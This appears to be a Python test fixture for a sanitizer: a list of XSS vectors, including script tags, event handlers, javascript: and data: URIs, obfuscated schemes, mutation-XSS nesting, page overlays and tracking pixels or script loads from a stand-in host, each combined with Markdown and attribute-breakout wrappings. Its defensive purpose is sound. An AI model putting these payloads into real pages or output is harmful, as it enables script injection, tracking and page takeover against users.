"""Markup that must never run, load or take the page over: every way to begin a script in every wrapping."""

from itertools import product

CALL = "alert(1)"
ELSEWHERE = "//elsewhere.example/"
# What runs by itself, by an event or by a click; what loads; what covers the page or takes its names.
VECTORS = (
    f"<script>{CALL}</script>",
    f"<script src={ELSEWHERE}x.js></script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<body onload={CALL}>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<object data='javascript:{CALL}'></object>",
    f"<embed src={ELSEWHERE}>",
    f"<a href='javascript:{CALL}'>x</a>",
    f"<a href='java\tscript:{CALL}'>x</a>",
    f"<a href='&#106;avascript&colon;{CALL}'>x</a>",
    f"<a href='data:text/html,<script>{CALL}</script>'>x</a>",
    f"<form action={ELSEWHERE}><button id=send>x</button></form>",
    f"<img src={ELSEWHERE}pixel.png>",
    f"<link rel=stylesheet href={ELSEWHERE}>",
    f"<style>@import '{ELSEWHERE}';*{{display:none}}</style>",
    f"<base href={ELSEWHERE}>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    "<div style='position:fixed;inset:0;background:red'>x</div>",
    "<p id=widget name=widget class=header>x</p>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
)
WRAPPINGS = (
    "{}",
    "**{}**",
    "- {}",
    "> {}",
    "`{}`",
    "[x]({})",
    "![x]({})",
    '"><p title="{}',
)
MARKDOWN = (
    f"![x](https:{ELSEWHERE}pixel.png?d=1)",
    f"![x][1]\n\n[1]: https:{ELSEWHERE}pixel.png",
    f"[x](javascript:{CALL})",
    f"[x](JaVaScRiPt:{CALL})",
    f"[x](vbscript:{CALL})",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    f"<javascript:{CALL}>",
    f"[x](https:{ELSEWHERE} \"' onmouseover='{CALL}\")",
)
ALL = (*MARKDOWN, *(wrapping.format(vector) for wrapping, vector in product(WRAPPINGS, VECTORS)))
